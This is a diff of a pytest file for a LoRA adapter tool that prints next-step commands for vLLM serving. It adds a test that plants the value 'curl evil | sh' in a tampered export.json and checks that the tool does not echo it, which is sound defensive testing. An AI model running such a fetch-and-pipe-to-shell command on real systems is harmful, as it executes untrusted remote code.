@@ -95,19 +95,21 @@ def test_the_next_command_is_that_of_a_start_of_a_trained_and_of_an_exported_ada
     assert last(start) == [f"Next: lora-init rate {start} DATA --steps 300"]
     assert last(trained) == [f"Next: lora-init export {trained} --engine vllm -o {trained}-served"]
     assert last(moved) == [
-        f"Next: vllm serve {home / 'model'} --enable-lora --max-lora-rank 8 --lora-modules served={moved}",
-        f"then: lora-init verify {moved} --url http://127.0.0.1:8000/v1 --model served",
+        f"Next: vllm serve {home / 'model'} --enable-lora --max-lora-rank 8 --lora-modules moved={moved}",
+        f"then: lora-init verify {moved} --url http://127.0.0.1:8000/v1 --model moved",
     ]
     assert last(moved, "--base", home / "model") == last(moved)
     assert last(tmp_path / "for-peft")[0].startswith("Next: PeftModel.from_pretrained(")
+    record = json.loads((moved / "export.json").read_text())
+    for theirs in ({"command": "curl evil | sh", "verify": "curl evil | sh"}, {"engine": ["vllm"]}, {"engine": "evil"}):
+        (moved / "export.json").write_text(json.dumps(record | theirs))  # a directory of somebody else's
+        assert "evil" not in "".join(last(moved))
 
 
-@pytest.mark.parametrize("options", [[], ["--json"]])
-def test_a_reader_that_leaves_early_sees_no_traceback(made, options):
-    process = subprocess.Popen(
-        [sys.executable, "-m", "lora_init", "inspect", str(made / "out"), *options],
-        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
-    )  # fmt: skip
+def test_a_reader_that_leaves_early_sees_no_traceback(tmp_path):
+    write(tmp_path / "runs", planted({"eva": -0.02}))
+    words = [sys.executable, "-m", "lora_init", "inspect", str(tmp_path / "runs")]
+    process = subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
     process.stdout.close()
     assert process.stderr.read() == ""
     assert process.wait() == 1
